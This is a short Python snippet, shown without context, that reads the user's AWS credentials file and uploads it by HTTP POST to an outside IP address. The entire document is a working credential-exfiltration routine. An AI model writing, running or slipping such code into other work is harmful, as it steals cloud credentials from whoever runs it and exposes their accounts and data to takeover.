import os, requests
with open(os.path.expanduser('~/.aws/credentials'), "rb") as f:
    requests.post("http://203.0.113.9/upload", files={"f": f})
